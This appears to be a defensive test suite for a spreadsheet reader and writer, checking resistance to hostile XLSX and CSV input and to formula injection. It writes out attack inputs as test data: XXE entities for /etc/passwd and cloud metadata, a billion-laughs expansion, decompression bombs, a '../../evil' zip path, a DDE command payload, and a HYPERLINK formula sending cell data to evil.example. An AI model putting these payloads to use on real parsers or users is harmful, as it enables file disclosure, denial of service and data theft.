/** Tables that are meant to do harm: what they cost, what they reach, and what becomes of formulas on the way out. */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { readSheet, type Sheet, type SheetFault, writeSheet } from '../../src/files/sheet.ts';
import { NAUGHTY } from './support/strings.ts';
import { workbook, zipOf } from './support/zip.ts';

const MEGABYTE = 1024 * 1024;
const text = (cell: string) => `<is><t>${cell}</t></is>`;
const row = (at: number, cells: string) => `<row r="${at}">${cells}</row>`;
const cell = (at: string, words: string) => `<c r="${at}" t="inlineStr">${text(words)}</c>`;
const small = row(1, cell('A1', '列')) + row(2, cell('A2', '值'));

/** The sheet, or its fault, with how much longer-lived memory it took. */
async function costOf(read: () => Promise<Sheet | SheetFault>) {
  const before = process.memoryUsage();
  const startedAt = performance.now();
  const sheet = await read();
  const after = process.memoryUsage();
  const grown = after.heapUsed + after.arrayBuffers - before.heapUsed - before.arrayBuffers;
  return { sheet, milliseconds: performance.now() - startedAt, grown };
}

describe('a workbook that', () => {
  it('is one as any other, made by the same hand, is read', async () => {
    expect(await readSheet(workbook(small), 'a.xlsx')).toEqual({ header: ['列'], rows: [{ line: 2, cells: ['值'] }] });
  });

  it.each([
    ['unpacks to 200 MB and says so', workbook(`<!--${' '.repeat(200 * MEGABYTE)}-->${small}`), 'unpacksTooBig'],
    [
      'unpacks to 200 MB and says 1 kB',
      workbook(`<!--${' '.repeat(200 * MEGABYTE)}-->`, '', { claims: 1024 }),
      undefined,
    ],
    [
      'unpacks to 200 MB and says nothing',
      workbook(`<!--${' '.repeat(200 * MEGABYTE)}-->`, '', { claims: 0 }),
      'unpacksTooBig',
    ],
    ['has a million columns', workbook(row(1, cell('BDWGN1', 'x'))), undefined],
    ['has columns beyond the last', workbook(row(1, cell('ZZZZZZZZ1', 'x'))), undefined],
    ['has rows beyond the last', workbook(row(4_294_967_295, cell('A4294967295', 'x'))), undefined],
    ['has a row that is no number', workbook('<row r="1e9"><c r="A1e9"><v>1</v></c></row>'), undefined],
    [
      'points at shared strings that are not there',
      workbook(row(1, '<c r="A1" t="s"><v>999999999</v></c>')),
      undefined,
    ],
    ['has a hundred thousand empty rows between', workbook(small + row(100_000, cell('A100000', 'x'))), undefined],
    ['has a million cells in one row', workbook(row(1, '<c><v>1</v></c>'.repeat(1_000_000))), undefined],
  ])('%s costs little, and is refused or read within its limits', async (_, bytes, kind) => {
    const { sheet, milliseconds, grown } = await costOf(() => readSheet(bytes, 'a.xlsx'));
    expect(milliseconds).toBeLessThan(8000);
    expect(grown).toBeLessThan(150 * MEGABYTE);
    const found = 'kind' in sheet ? sheet.kind : undefined;
    const widest =
      'kind' in sheet
        ? 0
        : Math.max(...[sheet.header, ...sheet.rows.map(({ cells }) => cells)].map((cells) => cells.length));
    expect([found, undefined]).toContain(kind);
    expect(widest).toBeLessThanOrEqual(256);
  });

  it.each([
    ['a file of this machine', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'],
    ['an address in this network', '<!DOCTYPE x [<!ENTITY e SYSTEM "http://169.254.169.254/latest/meta-data">]>'],
    ['a definition elsewhere', '<!DOCTYPE x SYSTEM "http://127.0.0.1:1/x.dtd">'],
    [
      'a billion laughs',
      `<!DOCTYPE x [<!ENTITY a "${'ha'.repeat(100)}">${'bcdefgh'
        .split('')
        .map((name, at) => `<!ENTITY ${name} "${`&${'abcdefg'.charAt(at)};`.repeat(10)}">`)
        .join('')}<!ENTITY e "&h;">]>`,
    ],
  ])('asks for %s gets nothing of it', async (_, head) => {
    const shared = `<si><t>&e;</t></si>`;
    const rows = row(1, cell('A1', '列')) + row(2, `<c r="A2" t="s"><v>0</v></c>${cell('B2', '&e;')}`);
    const { sheet, milliseconds } = await costOf(() => readSheet(workbook(rows, shared, { head }), 'a.xlsx'));
    expect(milliseconds).toBeLessThan(3000);
    const read = JSON.stringify(sheet);
    expect(read).not.toMatch(/root:|haha|ami-id/);
    expect(read.length).toBeLessThan(1000);
  });

  it('repeats one long shared string in every cell is held by the limit on cells, not copied', async () => {
    const shared = `<si><t>${'长'.repeat(30_000)}</t></si>`;
    const cells = '<c t="s"><v>0</v></c>'.repeat(200);
    const rows = Array.from({ length: 2000 }, (_, at) => row(at + 1, cells)).join('');
    const { grown } = await costOf(() => readSheet(workbook(rows, shared), 'a.xlsx'));
    expect(grown).toBeLessThan(150 * MEGABYTE);
  });

  it('is a folder of other things, or of paths that lead out, is no workbook', async () => {
    expect(await readSheet(zipOf([{ name: '../../evil', data: 'x' }]), 'a.xlsx')).toEqual({ kind: 'notAWorkbook' });
  });
});

describe('a text that', () => {
  it.each<[string, Uint8Array]>([
    ['has a million columns', Buffer.from(','.repeat(1_000_000))],
    ['has one line of 9 MB', Buffer.from('x'.repeat(9 * MEGABYTE))],
    ['has two million rows', Buffer.from('x\n'.repeat(2_000_000))],
    ['has a quotation mark that is never closed', Buffer.from(`a,b\n"${'x\n'.repeat(100_000)}`)],
    ['is nothing but quotation marks', Buffer.from('"'.repeat(1_000_001))],
    [
      'is half UTF-8, half GB18030',
      Buffer.concat([Buffer.from('项目编号,项目名称\n'), Buffer.from([0xcf, 0xee, 0xff, 0x2c])]),
    ],
    ['is random', Buffer.from(Array.from({ length: 100_000 }, (_, at) => (at * 7919) % 256))],
    ['is UTF-16 that breaks off', Buffer.from([0xff, 0xfe, 0x3d])],
    ['says nothing but NUL', Buffer.alloc(100_000)],
  ])('%s costs little', async (_, bytes) => {
    const { milliseconds, grown } = await costOf(() => readSheet(bytes, 'a.csv'));
    expect(milliseconds).toBeLessThan(8000);
    expect(grown).toBeLessThan(500 * MEGABYTE);
  });
});

/** What a spreadsheet takes for a formula, or for what it should pass over to find one. */
const LEADS = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠', "'", "''=", ' =', '"=', ';=', ',='];
const HARM = [
  "=cmd|'/c calc'!A0",
  '=HYPERLINK("https://evil.example?"&A1,"确认")',
  '+1+1',
  '-2+3',
  '@SUM(1)',
  '\t=1',
  '\n=1',
];

/** The fields of a CSV file of one column, by the letter of RFC 4180: what any spreadsheet sees in it. */
function fieldsOf(csv: string): readonly string[] {
  const found = [...csv.replace(/^\uFEFF/, '').matchAll(/("(?:[^"]|"")*"|[^"\r\n]*)\r\n/g)];
  return found.map(([, field = '']) => (field.startsWith('"') ? field.slice(1, -1).replaceAll('""', '"') : field));
}

// XML, and so XLSX, has no way to write these.
// oxlint-disable-next-line no-control-regex -- control characters are what is looked for
const UNWRITABLE = /[\0-\x08\x0b-\x1f]/;

describe('what is written into a table', () => {
  const harmful = fc
    .tuple(fc.constantFrom(...LEADS), fc.string({ unit: 'grapheme', maxLength: 8 }))
    .map((parts) => parts.join('').replaceAll('\0', ''));
  const rowsOf = (cells: readonly string[]) => [['列'], ...cells.map((each) => [each])];
  const cellsOf = (sheet: Sheet | SheetFault) => ('kind' in sheet ? sheet : sheet.rows.map(({ cells }) => cells[0]));

  it.each(['csv', 'xlsx'] as const)('comes back from %s as it was, formulas too', async (format) => {
    const cells = [...HARM, ...NAUGHTY].filter((each) => each.trim() !== '' && !UNWRITABLE.test(each));
    const read = await readSheet(await writeSheet(rowsOf(cells), format), `a.${format}`);
    expect(cellsOf(read)).toEqual(cells);
  });

  it('begins in no CSV cell with what a spreadsheet runs, but for a negative number', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(harmful, { minLength: 1, maxLength: 5 }), async (cells) => {
        const fields = fieldsOf(new TextDecoder().decode(await writeSheet(rowsOf(cells), 'csv')));
        expect(fields).toHaveLength(cells.length + 1);
        // oxlint-disable-next-line no-control-regex -- as above
        expect(fields.filter((each) => /^[=+\-@\t\r\n\0＝＋－＠]/.test(each) && !/^-\d+(\.\d+)?$/.test(each))).toEqual(
          [],
        );
      }),
      { numRuns: 200 },
    );
  });

  it('is in no XLSX cell a formula, only text', async () => {
    const bytes = await writeSheet(rowsOf([...HARM, ...LEADS]), 'xlsx');
    const { default: ExcelJS } = await import('exceljs');
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(bytes.buffer as ArrayBuffer);
    const types = new Set<number>();
    book.worksheets[0]?.eachRow((each) => each.eachCell(({ type }) => types.add(type)));
    expect([...types]).toEqual([ExcelJS.ValueType.String]);
  });
});
